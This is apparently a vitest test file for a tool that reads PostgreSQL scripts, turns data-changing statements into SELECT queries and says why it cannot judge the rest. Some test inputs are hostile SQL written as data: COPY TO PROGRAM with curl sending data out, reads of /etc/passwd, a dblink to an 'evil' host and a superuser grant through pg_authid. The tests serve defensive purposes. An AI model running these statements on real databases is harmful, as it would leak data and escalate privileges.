import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { readScript } from "../../../src/facts/neutralize/script.ts";
import { loadSql, type Sql } from "../../../src/facts/neutralize/sql.ts";
import { oneSelect } from "../../../src/transports/sql/one-select.ts";
import { turnScript } from "../../../src/facts/neutralize/turn.ts";
import { catalogue, turn } from "./tables.ts";

let sql: Sql;
beforeAll(async () => {
  sql = await loadSql();
});

/** What became of the last statement of a script. */
const last = (text: string): unknown => {
  const outcome = turn(sql, text).at(-1)?.outcome;
  switch (outcome?.is) {
    case "unknown":
      return `unknown: ${outcome.why}`;
    case "missing":
      return `missing: ${outcome.what}`;
    case "query":
      oneSelect({ id: "q", sql: outcome.sql });
      return "query";
    case undefined:
      return undefined;
  }
};

describe("a statement that is not judged says why", () => {
  it.each([
    ["COPY server TO PROGRAM 'curl -d @- example.com'", "COPY is not judged"],
    ["COPY server FROM '/etc/passwd'", "COPY is not judged"],
    ["DO $$ BEGIN DELETE FROM server; END $$", "DO, a program is not judged"],
    ["SET session_replication_role = replica", "VARIABLE SET is not judged"],
    ["CREATE TABLE x (id int)", "CREATE is not judged"],
    ["CREATE EXTENSION dblink", "CREATE EXTENSION is not judged"],
    ["ALTER TABLE server ADD x int", "ALTER TABLE is not judged"],
    ["DROP TABLE server", "DROP is not judged"],
    ["GRANT ALL ON server TO public", "GRANT is not judged"],
    ["SELECT pg_sleep(100)", "SELECT is not judged"],
    ["CALL p()", "CALL is not judged"],
    ["COMMIT", "TRANSACTION is not judged"],
    ["MERGE INTO server s USING owned o ON true WHEN MATCHED THEN DELETE", "MERGE is not judged"],
    [
      "UPDATE server SET name = pg_read_file('/etc/passwd')",
      "the function pg_read_file is not judged",
    ],
    [
      "UPDATE server SET name = x FROM dblink('host=evil', 'select 1') t(x int)",
      "RANGE FUNCTION is not judged",
    ],
    [
      "UPDATE server SET port = (SELECT dblink_exec('x', 'y'))",
      "the function dblink_exec is not judged",
    ],
    [
      "DELETE FROM server WHERE id IN (SELECT lo_import('/etc/passwd'))",
      "the function lo_import is not judged",
    ],
    ["UPDATE server SET name = mine.lower(name)", "the function mine.lower is not judged"],
    ["UPDATE server SET name = random()::text", "the function random is not judged"],
    ["UPDATE server SET name = repeat('x', 1000000000)", "the function repeat is not judged"],
    ["UPDATE server SET name = now()", "the function now is not judged"],
    [
      "UPDATE server SET name = CURRENT_TIMESTAMP",
      "the time or the user of the moment is not judged",
    ],
    ["UPDATE server SET name = CURRENT_USER", "the time or the user of the moment is not judged"],
    [
      "UPDATE server SET (name, host) = ('a', 'b')",
      "an assignment to several columns at once is not judged",
    ],
    [
      "UPDATE server SET (name, host) = (SELECT 'a', 'b')",
      "an assignment to several columns at once is not judged",
    ],
    ["UPDATE server SET name = DEFAULT", "DEFAULT, which the table decides is not judged"],
    [
      "INSERT INTO server (name, port) VALUES ('a', DEFAULT)",
      "DEFAULT, which the table decides is not judged",
    ],
    ["INSERT INTO server DEFAULT VALUES", "an INSERT of the table's own defaults is not judged"],
    ["INSERT INTO server VALUES (1, 'a')", "an INSERT that names no columns is not judged"],
    ["INSERT INTO server (name) VALUES ('a', 'b')", "its columns and values are not equally many"],
    [
      "INSERT INTO setting (key) VALUES ('a') ON CONFLICT DO NOTHING",
      "an ON CONFLICT that names no columns is not judged",
    ],
    [
      "INSERT INTO setting (value) VALUES ('a') ON CONFLICT (key) DO NOTHING",
      "its key is not among its columns",
    ],
    [
      "INSERT INTO setting (key) VALUES ('a') ON CONFLICT ON CONSTRAINT c DO NOTHING",
      "conname of INFER CLAUSE is not judged",
    ],
    [
      "INSERT INTO setting (key) VALUES ('a') ON CONFLICT (lower(key)) DO NOTHING",
      "expr of INDEX ELEM is not judged",
    ],
    [
      "INSERT INTO setting (key) VALUES ('a') ON CONFLICT (key) DO UPDATE SET value = excluded.value",
      "the column value is not judged",
    ],
    ["UPDATE server SET port = x.port FROM server x FOR UPDATE", undefined],
    [
      "DELETE FROM server WHERE id IN (SELECT id FROM owned FOR UPDATE)",
      "lockingClause of SELECT is not judged",
    ],
    [
      "DELETE FROM server WHERE id IN (SELECT count(*) OVER () FROM owned)",
      "over of FUNC CALL is not judged",
    ],
    ["DELETE FROM server RETURNING id", "returningClause of DELETE is not judged"],
    [
      "WITH gone AS (DELETE FROM owned RETURNING id) UPDATE server SET port = 1",
      "a statement inside another that changes rows is not judged",
    ],
    [
      "WITH RECURSIVE r AS (SELECT 1) UPDATE server SET port = 1",
      "recursive of WITH CLAUSE is not judged",
    ],
    ['UPDATE server SET name = name COLLATE "C"', "COLLATE CLAUSE is not judged"],
    ["UPDATE server SET name = 'server'::regclass::text", "the type regclass is not judged"],
    ["UPDATE server SET name = name OPERATOR(mine.||) 'x'", "the operator mine.|| is not judged"],
    ["UPDATE server SET port = 1 WHERE name <-> 'x' < 1", "the operator <-> is not judged"],
    ["UPDATE server SET port = $1", "a parameter is not judged"],
    ["UPDATE server SET port = 1e5", "the number 1e5 is not judged"],
    ["UPDATE server SET name = host WHERE ctid = '(0,1)'", "the column ctid is not judged"],
    ["UPDATE server SET name = server::text", "a whole row is not judged"],
    [
      "UPDATE server s SET name = 'x' WHERE server.id = 1",
      "server.id is in no table of the statement",
    ],
    [
      "UPDATE server SET port = 1 FROM owned WHERE id = 1",
      "the column id is in more than one table",
    ],
    [
      "UPDATE server SET port = 1 FROM owned NATURAL JOIN provider",
      "isNatural of JOIN EXPR is not judged",
    ],
    ["UPDATE pg_catalog.pg_authid SET rolsuper = true", "a table of another schema is not judged"],
    ["UPDATE a_view SET x = 1", "a_view is not a table that can be judged"],
    ['UPDATE "Server" SET x = 1', "a table of such a name is not judged"],
    ["UPDATE setting SET place = '(0,0)'", "the type of setting.place is not one that is judged"],
    ["UPDATE setting SET kind = 'red'", "the type of setting.kind is not one that is judged"],
    ["UPDATE server envaudit_row SET port = 1", "the name envaudit_row is not judged"],
  ] as const)("%s", (text, why) => {
    if (why === undefined) expect(() => turn(sql, text)).toThrow("PostgreSQL refuses it");
    else expect(last(text)).toBe(`unknown: ${why}`);
  });
});

describe("a name that the database has not", () => {
  it.each([
    ["UPDATE nope SET x = 1", "table nope"],
    ["UPDATE server SET nope = 1", "column nope of server"],
    ["UPDATE server SET port = 1 WHERE nope", "column nope of server"],
    ["UPDATE server s SET port = 1 WHERE s.nope", "column nope of server"],
    ["DELETE FROM server WHERE id IN (SELECT id FROM nope)", "table nope"],
    ["DELETE FROM server WHERE id IN (SELECT o.nope FROM owned o)", "column nope of owned"],
    ["DELETE FROM server WHERE id IN (SELECT nope FROM owned)", "column nope of owned or server"],
    ["INSERT INTO server (nope) VALUES (1)", "column nope of server"],
    ["TRUNCATE nope", "table nope"],
  ])("%s", (text, what) => {
    expect(last(text)).toBe(`missing: ${what}`);
  });
});

describe("what one statement is to another", () => {
  const later = "a later statement that is not judged sets the same column";
  it.each([
    [
      "UPDATE server SET port = 1; UPDATE provider SET token = 'x' WHERE server_id IN (SELECT id FROM server WHERE port = 1)",
      "unknown: it reads server, which the script changes before it",
    ],
    [
      "UPDATE server SET port = 1; UPDATE provider SET token = 'x' WHERE server_id IN (SELECT id FROM server WHERE active)",
      "query",
    ],
    [
      "DELETE FROM owned; UPDATE server SET port = 1 WHERE id IN (SELECT res_id FROM owned)",
      "unknown: it reads owned, which the script changes before it",
    ],
    [
      "INSERT INTO owned (model) VALUES ('x'); UPDATE server SET port = 1 WHERE EXISTS (SELECT FROM owned)",
      "unknown: it reads owned, which the script changes before it",
    ],
    [
      "UPDATE server SET port = random(); UPDATE server SET host = 'x' WHERE port = 1",
      "unknown: it reads what a statement sets that is not judged",
    ],
    ["UPDATE server SET port = random(); UPDATE server SET host = 'x'", "query"],
    ["INSERT INTO server (name) VALUES ('x'); DELETE FROM server WHERE port = 1", "query"],
  ])("%s", (text, expected) => {
    expect(last(text)).toBe(expected);
  });

  it("is not judged where a later one that nobody understood sets the same", () => {
    const all = turn(sql, "UPDATE server SET port = 1; UPDATE server SET port = random()");
    expect(all[0]?.outcome).toEqual({ is: "unknown", why: later });
  });

  it("does not depend on columns that an INSERT leaves to the table", () => {
    const all = turn(
      sql,
      "INSERT INTO server (name) VALUES ('x'); DELETE FROM server WHERE port = 1",
    );
    const why = "whether its row stays depends on a column that it leaves out";
    expect(all[0]?.outcome).toEqual({ is: "unknown", why });
  });

  it("is given up when an expression grows without end", () => {
    const doubled = "UPDATE server SET name = name || name;".repeat(30);
    expect(last(doubled)).toBe("unknown: it is entangled with too many others");
  });

  it("is judged table by table in a TRUNCATE of several", () => {
    const all = turn(sql, "TRUNCATE server, rel CASCADE");
    expect(all.map(({ table, kind }) => [table, kind])).toEqual([
      ["server", "delete"],
      ["rel", "delete"],
    ]);
  });
});

describe("a file that PostgreSQL refuses", () => {
  const refused = (text: string): unknown =>
    readScript(sql, [
      { module: "good", text: "update server set port = 1" },
      { module: "bad", text },
    ]);

  it.each([
    ["update server set;", 'PostgreSQL refuses it: syntax error at or near ";", line 1'],
    [
      "\n\nupdate server set port = 1\nupdate server",
      'PostgreSQL refuses it: syntax error at or near "update", line 4',
    ],
    [
      "select 'open",
      `PostgreSQL refuses it: unterminated quoted string at or near "'open", line 1`,
    ],
    ["update \u001b[31m", 'PostgreSQL refuses it: syntax error at or near "\\u001b", line 1'],
    [
      "update server set port = 1;\0drop table server",
      "it has a NUL, which ends a text for PostgreSQL",
    ],
    ["update server set name = '\uFFFD'", "it is not UTF-8"],
    [
      `select ${"(".repeat(20_000)}1${")".repeat(20_000)}`,
      'PostgreSQL refuses it: memory exhausted at or near "(", line 1',
    ],
    [
      `select ${"not ".repeat(20_000)}true`,
      'PostgreSQL refuses it: memory exhausted at or near "not", line 1',
    ],
  ])("%j says where, and the other files are read", (text, why) => {
    expect(refused(text)).toMatchObject({
      statements: [{ module: "good" }],
      refused: [{ module: "bad", why }],
    });
  });

  it("or that nobody can follow is told as such", () => {
    for (const depth of [1000, 3000, 9000]) {
      const deep = `delete from server where ${"not ".repeat(depth)}active`;
      const { statements, refused: bad } = readScript(sql, [{ module: "deep", text: deep }]);
      const outcomes = turnScript(sql, statements, catalogue).map(({ outcome }) => outcome.is);
      expect([...bad.map(() => "refused"), ...outcomes]).toEqual([
        expect.stringMatching(/^(?:refused|unknown|query)$/),
      ]);
    }
  });

  it("is an empty one or one of comments alone without any statement", () => {
    for (const text of ["", "\n", "-- nothing\n", "/* none */;;"]) {
      expect(readScript(sql, [{ module: "m", text }])).toEqual({ statements: [], refused: [] });
    }
  });

  it("is one with more statements than a script may have", () => {
    const text = "update server set port = 1;".repeat(501);
    expect(readScript(sql, [{ module: "m", text }]).refused).toEqual([
      { module: "m", why: "the script has more than 500 statements" },
    ]);
  });
});

describe("the text that is shown", () => {
  it("is the statement's own, on one line, without the comments before it, and shortened", () => {
    const text = `update server set port = 1;\n-- é ü\n/* more */ delete\n from\tserver where name = '${"x".repeat(200)}'`;
    expect(turn(sql, text).map((one) => one.text)).toEqual([
      "update server set port = 1",
      `delete from server where name = '${"x".repeat(86)}…`,
    ]);
  });

  it("can do nothing to a terminal", () => {
    const [one] = turn(sql, "update server set name = '\u001b]0;x\u0007'");
    expect(one?.text).toBe(String.raw`update server set name = '\u001b]0;x\u0007'`);
  });
});

describe("every question", () => {
  const text = fc.string({ unit: "binary", maxLength: 20 }).filter((s) => !/[\0\uFFFD]/.test(s));
  const name = fc.constantFrom(
    "name",
    "host",
    "server.name",
    "lower(name)",
    "coalesce(name, host)",
  );
  const condition = fc.constantFrom(
    "active",
    "not active or port between 1 and -2",
    "name not in ('a', 'b') and (active is null) is not true",
    "name like 'a%' escape_less",
    "port = any(array[1, - port])",
    "exists (select * from owned o left join provider p on p.id = o.id where o.res_id = server.id)",
    "id in (select server_id from provider group by server_id having count(distinct token) > 1 order by server_id desc nulls last limit 3)",
    "id in (select id from owned union all (select id from provider except select 1))",
    "case port when 1 then true when 2 then null else active end",
    "(name, host) in (('a', 'b'))",
    "greatest(port, 1) <> least(port, nullif(port, 2)) and port::text ~* '^[0-9]$'",
    "trim(both ' ' from name) = substring(host from 2 for 3) and position('a' in name) > 0",
  );

  it("passes what guards psql, and reads back as it was meant, whatever texts it holds", () => {
    fc.assert(
      fc.property(text, name, condition, (literal, value, where) => {
        const quoted = `E'${literal.replaceAll("\\", String.raw`\\`).replaceAll("'", "''")}'`;
        const script = `update server set name = ${quoted} || ${value}, host = ${quoted} where ${where};
          insert into setting (key, value) values (${quoted}, ${quoted}) on conflict (key) do update set value = excluded.value || ${quoted}`;
        if (where.includes("escape_less")) return;
        for (const { outcome } of turn(sql, script)) {
          if (outcome.is !== "query") throw new Error(JSON.stringify(outcome));
          oneSelect({ id: "q", sql: outcome.sql });
          expect(outcome.sql).not.toMatch(/[\n\r]/);
        }
      }),
      { numRuns: 300 },
    );
  });

  it("names PostgreSQL's own functions, never one of the database", () => {
    const [one] = turn(sql, "update server set name = upper(name)");
    expect(one?.outcome).toMatchObject({ sql: expect.stringContaining('"pg_catalog"."upper"(') });
  });

  it("has no id where the table has none", () => {
    const [one] = turn(sql, "delete from rel where server_id = 1");
    const expected = expect.stringContaining('SELECT CAST(NULL AS "pg_catalog"."int4") AS "id"');
    expect(one?.outcome).toMatchObject({ sql: expected });
    expect(Object.keys(catalogue)).toContain("rel");
  });
});
